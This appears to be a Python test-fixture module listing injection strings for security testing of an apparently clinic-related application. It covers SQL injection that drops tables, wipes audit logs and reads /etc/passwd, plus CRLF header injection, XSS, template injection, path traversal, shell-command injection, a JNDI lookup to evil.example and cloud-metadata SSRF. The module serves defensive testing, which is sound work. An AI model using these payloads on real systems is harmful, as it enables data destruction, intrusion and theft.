"""Texts that mean something to a database, a header, a page, a shell or a log."""

SQL = [
    "'", "''", '"', "`", "\\", "\\'", ";", "--", "/*", "*/", "%", "_", "%%", "__", "%_%", "\\%",
    "$$",
    "' OR '1'='1", "' OR 1=1 --", '" OR ""="', "') OR ('1'='1", "1 OR 1=1", "1' OR 1=1 #",
    "admin'--",
    "'; DROP TABLE patients; --", "'; DELETE FROM audit_log; --",
    "'; TRUNCATE sessions CASCADE; --",
    "'; UPDATE api_keys SET role = 'admin'; --", "'; COMMIT; --", "'; ROLLBACK; --",
    "'; SET app.clinic_id = ''; --", "'; RESET ALL; --", "'; SET ROLE postgres; --",
    "' UNION SELECT NULL --", "' UNION ALL SELECT secret_hash, NULL FROM api_keys --",
    "1 UNION SELECT version()", "' AND 1=CAST((SELECT role FROM api_keys LIMIT 1) AS int) --",
    "'; SELECT pg_sleep(9); --", "' || pg_sleep(9) --", "' OR pg_sleep(9) IS NULL --",
    "1; SELECT pg_sleep(9)", "(SELECT 1 FROM pg_sleep(9))", "'||(SELECT pg_sleep(9))||'",
    "'; COPY patients TO '/tmp/x'; --", "'; COPY x FROM PROGRAM 'id'; --", "'; LISTEN x; --",
    "' || lo_import('/etc/passwd') --", "$$; SELECT 1; $$", "E'\\'; SELECT 1; --",
    "\u02bc OR 1=1 --",
    "\uff07 OR 1=1 --", "\xbf' OR 1=1 --", "1/**/OR/**/1=1", "' oR 1=1 LIMIT 1 OFFSET 1 --",
    "%(name)s", "%s", ":name", ":1", "$1", "{0}", "{}", "?", "@@version", "x' AND 'x'='y",
]  # fmt: skip

HEADERS = [
    "a\r\nSet-Cookie: a=b", "a\nSet-Cookie: a=b", "a\rSet-Cookie: a=b", "a%0d%0aSet-Cookie:%20a=b",
    "a%0aSet-Cookie: a=b", "a\u560a\u560dSet-Cookie: a=b", "a%E5%98%8A%E5%98%8DSet-Cookie:a=b",
    "a\r\n\r\n<html>", "a\\r\\nSet-Cookie: a=b", "a\u2028Set-Cookie: a=b", "a\x0bSet-Cookie: a=b",
    "a\r\nLocation: //evil.example", "a\r\nBcc: x@example.com", "//evil.example",
    "\\\\evil.example",
]  # fmt: skip

OTHERS = [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "{{7*7}}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{0.__class__.__mro__}", "%n%n%n%n",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd", "/etc/passwd\x00.json", "file:///etc/passwd",
    "http://169.254.169.254/",
    "$(sleep 9)", "`sleep 9`", "| sleep 9", "& sleep 9 &", "() { :;}; sleep 9", "=cmd|'/c calc'!A1",
    "+1+1", "@SUM(1)", "${jndi:ldap://evil.example/a}", "*)(uid=*))(|(uid=*", '{"$gt": ""}',
    "[$ne]=1",
    "%00", "\x00", "\u0000'", "\x1b[31mred\x1b[0m", "\x08\x08\x08", "\u202egnp.exe", "\ufeff",
    "\u200b",
    "(a+)+$" + "a" * 90,
    "a" * 90 + "!", "😀" * 20, "Z\u0351\u036b\u0343\u036a\u0302", "\ufdfd" * 20,
]  # fmt: skip

PAYLOADS = [*SQL, *HEADERS, *OTHERS]
